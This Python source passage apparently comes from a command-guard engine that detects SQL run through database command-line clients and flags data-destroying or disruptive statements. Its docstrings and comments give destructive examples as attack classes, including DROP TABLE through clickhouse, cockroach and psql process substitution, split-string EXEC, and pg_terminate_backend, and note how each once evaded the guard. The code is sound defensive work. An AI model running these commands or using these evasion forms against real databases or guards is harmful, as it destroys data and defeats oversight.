            name = (m.group(5) or m.group(7)).lower()
            args = _call_args(text, m.end())
            if name.startswith("exec"):  # (SQL Server: EXEC('DR' + 'OP TABLE t'), EXEC(@q))
                query = args[0] if args is not None and len(args) == 1 else None
            else:
                query = _query_argument(name, args) if args is not None else None
            if query is None or _WHOLE_LITERAL_RE.fullmatch(query) is None:
                return f"{name} of a computed query"
        elif m.group(8):
            return "psql's \\gexec (each row of the result run as a statement)"
    return None


def sql_disruption(sql: str) -> str | None:
    """What ``sql`` disrupts (``pg_sleep``: holds its locks; ``pg_terminate_backend``: ends
    other sessions), or None."""
    if "pg_" not in sql.lower() and 'u&"' not in sql.lower():
        return None
    # (not in a string: 'pg_sleep(1)'; as each lexer reads it: pg_sleep/**/(1), "pg_sleep"(1))
    found = (_DISRUPT_RE.search(code) for _view, code in comment_views(sql))
    m = next((x for x in found if x is not None), None)
    if m is None:
        return None
    name = m.group(1).lower()
    why = _DISRUPT_WHY.get(name, "holds its connection and its transaction's locks")
    return f"pg_{name}: {why}"


#: database clients -> options whose value is SQL, options that take another value
SQL_CLIENTS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "psql": (
        frozenset({"-c", "--command"}),
        frozenset({"-d", "--dbname", "-h", "--host", "-p", "--port", "-U", "--username",
                   "-f", "--file", "-o", "--output", "-v", "--set", "--variable", "-P",
                   "--pset", "-F", "-R", "-T", "-L", "--log-file"}),
    ),
    "mysql": (
        # (--init-command: SQL run at each connect, before -e's)
        frozenset({"-e", "--execute", "--init-command", "--init-command-add"}),
        frozenset({"-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database",
                   "-S", "--socket", "--tee"}),
    ),
    "sqlcmd": (frozenset({"-Q", "-q"}), frozenset({"-S", "-U", "-P", "-d", "-i", "-o"})),
    "clickhouse-client": (frozenset({"-q", "--query"}),
                          frozenset({"-h", "--host", "--port", "--queries-file"})),
    # (mycli and litecli, Python's MySQL and SQLite clients: -e/--execute runs SQL)
    "mycli": (frozenset({"-e", "--execute"}),
              frozenset({"-u", "--user", "-h", "--host", "-P", "--port", "-D", "--database",
                         "-S", "--socket", "-p", "--password"})),
}  # fmt: skip
SQL_CLIENTS["mariadb"] = SQL_CLIENTS["mysql"]
# (clickhouse-local: the local engine's SQL; cockroach sql: CockroachDB's SQL shell, named as
# a subcommand: sql_client; usql: the universal client, -c as psql's)
SQL_CLIENTS.update({
    "clickhouse-local": (frozenset({"-q", "--query"}), frozenset(
        {"--queries-file", "-f", "--file", "-t", "--table", "-S", "--structure"})),
    "cockroach-sql": (frozenset({"-e", "--execute"}), frozenset(
        {"-f", "--file", "--url", "--host", "-d", "--database", "-u", "--user", "--certs-dir",
         "--set", "--format"})),
    "usql": (frozenset({"-c", "--command"}), frozenset(
        {"-f", "--file", "-o", "--out", "-v", "--set", "-P", "--pset", "-F", "-R"})),
    **sql_clients.CLIENTS,  # (pgcli, vsql, trino, beeline, hive, cqlsh, snowsql, bq query ...)
})  # fmt: skip
#: database clients run as a subcommand of a multi-call program
_SUBCOMMAND_CLIENTS = {
    ("clickhouse", "client"): "clickhouse-client",
    ("clickhouse", "local"): "clickhouse-local",
    ("cockroach", "sql"): "cockroach-sql",
    **sql_clients.SUBCOMMANDS,
}
#: clients' options naming a file they write output or a log to (psql -o/-L, mysql --tee)
_OUTPUT_OPTIONS = frozenset({"-o", "--output", "-L", "--log-file", "--tee"})
#: clients that take ``[options] DATABASE [SQL ...]`` with single-dash long options
SQL_FILE_CLIENTS = frozenset({"sqlite3", "sqlite", "duckdb"})
_SQL_FILE_VALUE = frozenset(
    {"-separator", "-newline", "-nullvalue", "-init", "-vfs", "-maxsize", "-mmap", "-lookaside",
     "-pagecache", "-heap", "-s"}
)  # fmt: skip


def sql_client(prog: str, args: tuple[str, ...]) -> tuple[str, tuple[str, ...]] | None:
    """``(client, arguments)`` when ``prog args`` runs a database client :func:`sql_args`
    reads: one by its own name, or a subcommand of a multi-call program (``clickhouse
    client|local ARGS``, ``cockroach sql ARGS``; ``clickhouse -q SQL`` with no subcommand
    runs the local engine); None for anything else.

    Attack class: ``clickhouse client -q 'DROP TABLE users'``, ``cockroach sql -e ...``
    were allowed unasked, as the same DROP given to ``clickhouse-client`` was not."""
    if prog in SQL_CLIENTS or prog in SQL_FILE_CLIENTS:
        return prog, args
    if args and (prog, args[0]) in _SUBCOMMAND_CLIENTS:
        return _SUBCOMMAND_CLIENTS[prog, args[0]], args[1:]
    if prog == "clickhouse" and args and args[0].startswith("-"):
        return "clickhouse-local", args
    return None


def sql_args(w: _Sink, prog: str, args: tuple[str, ...]) -> None:
    """SQL given to a database client on its command line.

    Attack class: the SQL block rules read SQL tools and ``sql``/``query`` parameters; the
    same ``DROP TABLE`` given to ``psql -c`` or ``sqlite3 DB STMT`` in a shell command was not
    read."""
    if prog in SQL_FILE_CLIENTS:
        plain: list[str] = []
        i = 0
        while i < len(args):
            a = args[i]
            if a.startswith("--") and a != "--":  # (sqlite3 and duckdb read --cmd as -cmd)
                a = a[1:]
            sqlite_dots.option(w, prog, a)  # (-A ARGS: .archive ARGS)
            if a in ("-cmd", "-c") or (a == "-s" and prog == "duckdb"):  # (duckdb -s SQL)
                if i + 1 < len(args):
                    w.sql(args[i + 1])
                i += 1
            elif (a == "-init" or (a == "-f" and prog == "duckdb")) and i + 1 < len(args):
                if (text := _file_sql(w, args[i + 1], args)) is not None:
                    w.sql(text)
                i += 1
            elif a in _SQL_FILE_VALUE:
                i += 1
            elif not a.startswith("-"):
                plain.append(a)
            i += 1
        for stmt in plain[1:]:
            w.sql(stmt)
        return
    # (the shell parser loads at a call's first command string, not with the SQL rules a
    # SQL tool's query is read by: tests/engine/test_lazy_shell_parser.py)
    from cordon.engine.shell_split import split

    sql_opts, value_opts = SQL_CLIENTS[prog]
    args = tuple(_long_option(a, sql_opts, value_opts) for a in args)
    _plain, opts = split(args, sql_opts | value_opts)
    for k, v in opts:
        if k in sql_opts:
            w.sql(v)
        elif k in _FILE_OPTIONS.get(prog, ()) and (text := _file_sql(w, v, args)) is not None:
            w.sql(text)  # (echo 'DROP TABLE t;' > x.sql; psql -f x.sql)
        elif k in _OUTPUT_OPTIONS and v.startswith("|"):  # (psql -o '|LINE': rows piped)
            w.nested(f'echo "$(:)" | {v[1:]}')
        elif k in _OUTPUT_OPTIONS and v:  # (psql -o FILE, -L FILE, mysql --tee=FILE)
            w.file(v, prog, "overwrite")
        elif k in ("-v", "--set", "--variable") and "=" in v:
            w.sql(v.partition("=")[2])  # (a variable's text, interpolated as :q, is SQL)


#: clients' options whose value is a file of SQL the client runs (sqlite3's and duckdb's
#: -init, duckdb's -f: :func:`sql_args`)
_FILE_OPTIONS = {"psql": ("-f", "--file"), "sqlcmd": ("-i",), "usql": ("-f", "--file"),
                 "cockroach-sql": ("-f", "--file"), "clickhouse-client": ("--queries-file",),
                 "clickhouse-local": ("--queries-file",), **sql_clients.FILE_OPTIONS}  # fmt: skip


def _file_sql(w: Any, path: str, args: tuple[str, ...]) -> str | None:
    """The SQL in the file ``path`` a client is told to run (``args``: the client's), when
    known here: a file this command wrote (:func:`_written_sql`), or what the one process
    substitution among the command's words writes (``psql -f <(CMD)``, read as ``CMD |
    psql`` is); SQL such a substitution decodes or computes, or a substitution not known
    to be this one, is opaque.

    Attack class: ``psql -f <(echo 'DROP TABLE t;')``, ``sqlite3 -init <(...)`` ran the
    DROP unasked: the file's name is computed (``/dev/fd/63``), not read."""
    subs: list[tuple[str | None, bool]] = getattr(w, "subs", None) or []
    if DYNAMIC not in path or not subs:
        return _written_sql(w, path)
    if path == DYNAMIC and len(subs) == 1 and sum(DYNAMIC in a for a in args) == 1:
        text, decoded = subs[0]
        if text is None and not decoded:
            return None  # (as a dump piped in: psql -f <(pg_dump app))
        if text is not None and DYNAMIC not in text and not decoded:
            return text
    w.opaque("a database client runs the SQL a process substitution writes at run time")
    return None
